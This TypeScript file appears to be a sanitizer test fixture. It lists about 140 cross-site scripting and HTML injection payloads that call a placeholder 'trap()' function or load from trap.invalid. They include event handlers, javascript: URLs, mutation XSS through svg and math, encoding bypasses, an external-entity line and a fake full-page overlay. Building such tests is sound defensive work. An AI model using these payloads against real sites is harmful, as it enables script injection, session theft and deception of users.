const raw = (text: string): string[] => text.split("\n").filter((line) => line.trim() !== "");

/** Markup that runs a script, by itself or when it is parsed twice. `trap` is a function of the page. */
export const hostileMarkup: readonly string[] = raw(String.raw`
<script>trap()</script>
<SCRIPT SRC=https://trap.invalid/a.js></SCRIPT>
<script type=module>import "https://trap.invalid/m.js"</script>
</script><script>trap()</script>
</SCRIPT ><script>trap()</script>
<!--<script>--><script>trap()</script>
<!--<script>
</script
</script/x><img src=x onerror=trap()>
<scr<script>ipt>trap()</scr</script>ipt>
<script/x>trap()</script/x>
<script>/*</script><script>*/trap()</script>
<noscript><p title="</noscript><img src=x onerror=trap()>">
<img src=x onerror=trap()>
<img src=x:x onerror="trap()">
<img src="https://trap.invalid/p.png">
<img srcset="https://trap.invalid/s.png 1x">
<image src=x onerror=trap()>
<input autofocus onfocus=trap()>
<input type=image src=https://trap.invalid/i.png onerror=trap()>
<body onload=trap()>
<body background=https://trap.invalid/b.png>
<details open ontoggle=trap()>x</details>
<video><source onerror=trap()></video>
<video src=https://trap.invalid/v.mp4 autoplay poster=https://trap.invalid/v.png></video>
<audio src=x onerror=trap()></audio>
<iframe src="javascript:trap()"></iframe>
<iframe srcdoc="<script>parent.trap()</script>"></iframe>
<iframe src=https://trap.invalid/f></iframe>
<frameset onload=trap()></frameset>
<object data="javascript:trap()"></object>
<object data=https://trap.invalid/o type=text/html></object>
<embed src="javascript:trap()">
<embed src=https://trap.invalid/e>
<applet code=trap></applet>
<base href="https://trap.invalid/">
<base href="javascript:trap()//">
<link rel=stylesheet href=https://trap.invalid/l.css>
<link rel=prefetch href=https://trap.invalid/pre>
<link rel=dns-prefetch href=//trap.invalid>
<link rel=icon href=https://trap.invalid/icon.png>
<meta http-equiv=refresh content="0;url=https://trap.invalid/r">
<meta http-equiv=refresh content="0;url=javascript:trap()">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-trap()+ADw-/script+AD4-
<form action="javascript:trap()"><button autofocus onfocus=trap()>x</button></form>
<form id=x></form><button form=x formaction="javascript:trap()">x</button>
<isindex action=javascript:trap() type=image>
<marquee onstart=trap()>x</marquee>
<keygen autofocus onfocus=trap()>
<select autofocus onfocus=trap()></select>
<textarea autofocus onfocus=trap()></textarea>
</textarea><img src=x onerror=trap()>
</title><img src=x onerror=trap()>
</style><img src=x onerror=trap()>
</pre></code></blockquote><img src=x onerror=trap()>
--><img src=x onerror=trap()>
--!><img src=x onerror=trap()>
]]><img src=x onerror=trap()>
"><img src=x onerror=trap()>
'><img src=x onerror=trap()>
\"><img src=x onerror=trap()>
" onmouseover="trap()" autofocus onfocus="trap()
' onfocus='trap()' autofocus='
x onerror=trap() 
<a href="javascript:trap()">x</a>
<a href="jav&#x09;ascript:trap()">x</a>
<a href="&#106;avascript:trap()">x</a>
<a href="data:text/html,<script>trap()</script>">x</a>
<a href="vbscript:trap()">x</a>
<a href=https://trap.invalid/ping ping=https://trap.invalid/ping>x</a>
<svg onload=trap()>
<svg/onload=trap()//
<svg><script>trap()</script></svg>
<svg><script href=https://trap.invalid/s.js /></svg>
<svg><animate onbegin=trap() attributeName=x dur=1s></svg>
<svg><set attributeName=onload to=trap()></svg>
<svg><a xlink:href="javascript:trap()"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='trap()'/></svg>#x"></svg>
<svg><use href=https://trap.invalid/u.svg#x /></svg>
<svg><image href=https://trap.invalid/i.svg /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.trap()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=trap()></style></svg>
<svg><desc><noscript><img src=x onerror=trap()></noscript></desc></svg>
<svg><title><a id="</title><img src=x onerror=trap()>"></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=trap()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trap()&gt;">
<math><annotation-xml encoding="text/html"><script>trap()</script></annotation-xml></math>
<math href="javascript:trap()">x</math>
<math><maction actiontype="statusline#https://trap.invalid/" xlink:href="javascript:trap()">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>
<table><td><svg><style><img src=x onerror=trap()></style></table>
<template><img src=x onerror=trap()></template>
<template shadowrootmode=open><img src=x onerror=trap()></template>
<xmp><p title="</xmp><svg/onload=trap()>">
<plaintext><img src=x onerror=trap()>
<listing>&lt;img src=x onerror=trap()&gt;</listing>
<p id="<img src=x onerror=trap()>">
<![CDATA[<img src=x onerror=trap()>]]>
<!--[if gte IE 5]><script>trap()</script><![endif]-->
<?xml-stylesheet href="https://trap.invalid/x.xsl"?><x/>
<!DOCTYPE x [<!ENTITY e SYSTEM "https://trap.invalid/e">]><x>&e;</x>
&lt;img src=x onerror=trap()&gt;
&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;
%3Cimg%20src%3Dx%20onerror%3Dtrap()%3E
\u003cimg src=x onerror=trap()\u003e
\x3cscript\x3etrap()\x3c/script\x3e
+ADw-img src=x onerror=trap()+AD4-
¼script¾trap()¼/script¾
＜img src=x onerror=trap()＞
<img
src=x
onerror=trap()>
<ſcript>trap()</ſcript>
<K onclick=trap()>
<x-y onclick=trap() tabindex=1 id=x style=animation-name:x onanimationstart=trap()>
<dialog open onclose=trap()><form method=dialog><button autofocus>x</button></form></dialog>
<div popover id=p onbeforetoggle=trap()>x</div>
<style>@import "https://trap.invalid/i.css";</style>
<style>*{background:url(https://trap.invalid/c.png)}</style>
<p style="background:url(https://trap.invalid/p.png)">x</p>
<p style="width:expression(trap())">x</p>
<p style="-moz-binding:url(https://trap.invalid/xbl#x)">x</p>
<p style="position:fixed;inset:0;background:white;z-index:9999">Your report was sent.</p>
`);
